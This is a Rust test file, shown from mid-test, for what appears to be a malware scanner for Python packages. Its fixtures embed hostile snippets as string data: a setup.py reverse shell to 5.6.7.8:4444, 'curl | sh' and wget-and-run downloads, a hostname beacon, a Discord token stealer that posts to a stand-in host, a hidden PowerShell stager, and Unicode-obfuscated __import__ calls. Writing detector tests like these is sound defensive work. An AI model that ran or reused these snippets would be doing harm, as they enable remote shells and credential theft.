    let setup = "import os\nfrom setuptools import setup\nSTAGE = \"import socket, subprocess\\ns = socket.socket()\\ns.connect(('5.6.7.8', 4444))\\nsubprocess.call(['/bin/sh', '-i'])\"\nopen('/tmp/s.py', 'w').write(STAGE)\nos.system('python /tmp/s.py')\nsetup(name='demo')\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn network_library_values_are_not_requests() {
    let init = "import aiohttp\nMAJOR = int(aiohttp.__version__.split('.')[0])\nTIMEOUT = aiohttp.ClientTimeout(total=5)\nPIN = aiohttp.Fingerprint(bytes.fromhex('ab' * 32))\n";
    let data = wheel(&[("demo/__init__.py", init), ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(!rules_of(&r).iter().any(|r| r.starts_with("py-import") || *r == "py-hidden-endpoint"), "{:#?}", r.findings);
}

#[test]
fn test_suites_by_other_names_weigh_as_tests() {
    let beacon = "import socket, urllib.request\nurllib.request.urlopen('https://collect.example.org/?h=' + socket.gethostname())\n";
    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/testsuite/__init__.py", beacon), meta]);
    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same code in the package's own `__init__` runs at import.
    let data = wheel(&[("demo/__init__.py", beacon), meta]);
    assert!(scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl").verdict >= Verdict::Suspicious);
}

#[test]
fn a_setup_py_that_downloads_data_is_held_not_refused() {
    let setup = "import subprocess, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://data.example.org/tables.csv', 'demo/tables.csv')\nsubprocess.check_call(['git', 'describe', '--tags'])\nsetup(name='demo')\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert!(!r.findings.iter().any(|f| f.decisive), "{:#?}", r.findings);
}

#[test]
fn reports_carry_the_capabilities_and_compare_releases() {
    let meta = |v: &str| format!("Metadata-Version: 2.1\nName: demo\nVersion: {v}\nRequires-Dist: requests\n");
    let old = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo-1.0.dist-info/METADATA", &meta("1.0"))]);
    let new = wheel(&[
        ("demo/__init__.py", "from .net import fetch\n"),
        (
            "demo/net.py",
            "import subprocess, urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\ndef run(c):\n    return subprocess.run(c)\ndef ev(x):\n    return eval(x)\n",
        ),
        ("demo-1.1.dist-info/METADATA", &meta("1.1")),
    ]);
    let old = scanner().scan_bytes(&old, "demo-1.0-py3-none-any.whl");
    let new = scanner().scan_bytes(&new, "demo-1.1-py3-none-any.whl");
    assert_eq!(new.verdict, Verdict::Clean, "{:#?}", new.findings);
    let t = palisade_scan::Thresholds::default();
    let earlier = palisade_scan::releases(
        &new.file,
        vec![palisade_scan::EarlierFile { release: "1.0".into(), filename: old.file.clone(), uses: old.capabilities.clone() }],
        3,
    );
    let compared = new.clone().compared_with(&earlier, &t);
    let mut news: Vec<&str> = compared.findings.iter().map(|f| f.rule.as_str()).filter(|r| r.starts_with("release-new-")).collect();
    news.sort();
    assert_eq!(news, vec!["release-new-dynamic-code", "release-new-network", "release-new-process"], "{:#?}", compared.findings);
    assert_eq!(compared.verdict, Verdict::Suspicious);
    // Serialized with the report, so the server can compare later uploads with it.
    let json = serde_json::to_value(&new).unwrap();
    assert!(json["capabilities"].as_array().is_some_and(|a| !a.is_empty()), "{json}");
}

#[test]
fn python_started_at_import_and_protected_install_code_weigh_more() {
    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
    // A version lookup through git at import is common; a second interpreter started then is not.
    let git = "import subprocess\nREV = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n";
    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", git), meta]), "demo-1.0-py3-none-any.whl");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    let spawn = "import subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'import demo.agent'], close_fds=True)\n";
    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", spawn), meta]), "demo-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "py-import-process").expect("found");
    assert_eq!(f.severity, palisade_scan::Severity::High, "{f:#?}");
    assert_eq!(r.verdict, Verdict::Suspicious);
    // PyArmor-protected code in setup.py runs unread at install.
    let setup = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n";
    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
    let f = r.findings.iter().find(|f| f.rule == "obf-pyarmor").expect("found");
    assert_eq!(f.severity, palisade_scan::Severity::High, "{f:#?}");
    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn shell_download_and_run_and_mathematical_names() {
    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
    let lib = "import subprocess\ndef setup_tool(f):\n    subprocess.Popen(f'cd /tmp && wget -q https://example.invalid/t -O {f} && chmod +x {f} && ./{f}', shell=True)\n";
    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/tool.py", lib), meta]), "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).contains(&"py-shell-download-exec"), "{:#?}", r.findings);
    let setup = "import os\nfrom setuptools import setup\nos.system('curl -s https://example.invalid/i.sh | sh')\nsetup(name='demo')\n";
    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
    let f = r.findings.iter().find(|f| f.rule == "py-shell-download-exec").expect("found");
    assert!(f.decisive, "{f:#?}");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Names in mathematical letters that Python folds to `setattr` and `__import__`.
    let hidden = "𝘴𝙚𝙩𝗮𝘁𝘵𝙧(obj, 'x', __𝙞𝗺𝘱𝗼𝗿𝙩__('base64').b64decode(b'eA=='))\n";
    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", hidden), meta]), "demo-1.0-py3-none-any.whl");
    assert!(rules_of(&r).contains(&"py-unicode-identifiers"), "{:#?}", r.findings);
    // A formula in a comment or a docstring is prose.
    let prose = "# the mean 𝑥̄ of 𝑥𝑖\ndef mean(xs):\n    \"\"\"Returns 𝜇 = Σ𝑥 / 𝑛.\"\"\"\n    return sum(xs) / len(xs)\n";
    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", prose), meta]), "demo-1.0-py3-none-any.whl");
    assert!(!rules_of(&r).contains(&"py-unicode-identifiers"), "{:#?}", r.findings);
}

#[test]
fn credential_stores_and_persistence_weigh_more_beside_the_network() {
    // A module that reads Discord's token store and posts: held for review on its own.
    let stealer = "import os, requests\nP = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\ndef go(t):\n    requests.post('https://example.invalid/t', data=t)\n";
    let data = wheel(&[
        ("tokens/__init__.py", ""),
        ("tokens/grab.py", stealer),
        ("tokens-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tokens\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "tokens-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "cred-discord-token").expect("token store");
    assert_eq!(f.severity, Severity::Critical);
    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
    // The same path named by a file without network use stays high.
    let reader = "import os\nP = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n";
    let data = wheel(&[
        ("tokens/__init__.py", ""),
        ("tokens/paths.py", reader),
        ("tokens-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tokens\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "tokens-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "cred-discord-token").expect("token store");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn stagers_and_hidden_launches_in_modules_the_import_runs() {
    // A module imported by __init__ that starts PowerShell hidden, the option on a later line.
    let module =
        "import subprocess\nsubprocess.Popen([\n    'powershell.exe', '-File', 'x.ps1'],\n    creationflags=subprocess.CREATE_NO_WINDOW)\n";
    let data = wheel(&[
        ("quiet/__init__.py", "from . import boot\n"),
        ("quiet/boot.py", module),
        ("quiet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: quiet\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "quiet-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::High, "{:#?}", r.findings);
    // A PowerShell stager kept by a module that starts programs.
    let stager = "import subprocess\nCODE = '''$c = [Convert]::FromBase64String($b)\nInvoke-Expression $cmd'''\ndef go(p):\n    subprocess.Popen(['powershell.exe', '-File', p])\n";
    let data = wheel(&[
        ("quiet/__init__.py", ""),
        ("quiet/stage.py", stager),
        ("quiet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: quiet\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "quiet-1.0-py3-none-any.whl");
    let f = r.findings.iter().find(|f| f.rule == "win-powershell-encoded").expect("stager");
    assert_eq!(f.severity, Severity::Critical);
    assert!(r.verdict >= Verdict::Suspicious);
}
